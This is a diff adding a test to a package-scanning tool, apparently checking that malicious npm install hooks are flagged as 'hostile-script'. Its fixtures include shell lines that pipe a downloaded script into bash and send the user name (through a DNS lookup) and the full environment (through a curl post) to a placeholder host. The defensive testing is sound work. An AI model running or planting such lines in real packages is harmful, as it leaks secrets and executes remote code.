@@ -91,6 +91,18 @@ describe('checks/package/install-behaviour', () => {
     expect((await inWheel(files)).join('\n')).toContain(`${rule}:`);
   });
 
+  it('follows the install script into the shell: hostile-script', async () => {
+    const files = { 'setup.sh': `#!/bin/sh\ncurl -s ${U} | bash\n` };
+    expect(await inNpm(files, { postinstall: 'sh ./setup.sh' })).toEqual([
+      'hostile-script: on install, through postinstall, setup.sh runs and starts a command that fetches or decodes a program and runs it',
+    ]);
+    expect(await inNpm(files)).toEqual([]);
+    const inside = {
+      'setup.sh': 'x=$(whoami)\nnslookup "$x.host.invalid"\ncurl -d "$(env)" https://host.invalid',
+    };
+    expect((await inNpm(inside, { preinstall: 'bash setup.sh' })).length).toBeGreaterThan(0);
+  });
+
   it.each([
     [
       'split-theft',
